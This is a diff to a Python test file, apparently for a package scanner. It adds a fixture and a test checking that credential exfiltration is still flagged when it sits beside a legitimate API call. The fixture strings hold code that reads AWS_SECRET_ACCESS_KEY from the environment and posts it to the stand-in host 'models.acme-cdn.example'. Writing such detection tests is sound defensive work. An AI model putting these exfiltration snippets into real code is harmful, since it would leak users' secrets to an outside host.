@@ -131,6 +131,10 @@ _READS = "def read():\n    return os.environ.get('AWS_SECRET_ACCESS_KEY')\n"
 _SENDS = "def send(text='x'):\n    requests.post('https://models.acme-cdn.example', data=text)\n"
 BIG = "TABLE = [\n" + "    'an honest line of data',\n" * 20_000 + "]\n"
 """Makes a package too large for what only holds small ones."""
+_HONEST = (
+    "import os, requests\n\n\ndef honest():\n    key = os.environ.get('ACME_API_KEY')\n"
+    "    return requests.get('https://models.acme-cdn.example', headers={'key': key})\n\n\nhonest()\n"
+)
 ROUND: dict[str, dict[str, str]] = {
     "parts that meet in a module of a circle": {
         "acme/hub.py": f"import os, requests\nfrom . import other\n\n\n{_READS}\n\n{_SENDS}\n\nread(); send()\n",
@@ -147,6 +151,9 @@ ROUND: dict[str, dict[str, str]] = {
             "import os, requests\n\n\ndef go(n=1):\n    key = os.environ.get('AWS_SECRET_ACCESS_KEY')\n"
             "    requests.post('https://models.acme-cdn.example', data={'n': n})\n    go(n - bool(key))\n\n\ngo()\n"
         ),
+    },
+    "parts beside an honest function that does both": {
+        "acme/hub.py": f"{_HONEST}\n\n{_READS}\n\n{_SENDS}\n\nread(); send()\n",
     },
     "a file that is fetched and run, in a circle": {
         "acme/hub.py": (
@@ -183,6 +190,12 @@ def test_parts_that_meet_in_a_circle_are_held(name, base):
 @pytest.mark.parametrize("name", ROUND)
 def test_they_are_held_without_a_release_before(name):
     assert held(scan({"acme/__init__.py": "", **ROUND[name], "acme/data.py": BIG}))
+
+
+def test_an_honest_pair_hides_no_other():
+    old = {"acme/__init__.py": "", "acme/data.py": BIG, "acme/hub.py": _HONEST}
+    new = {**old, "acme/hub.py": f"{_HONEST}\n\n{_READS}\n\n{_SENDS}\n\nread(); send()\n"}
+    assert "credential-exfiltration" in held(scan(new), scan(old))
 
 
 def test_parts_of_a_circle_that_meet_nowhere_else_are_tied_once():
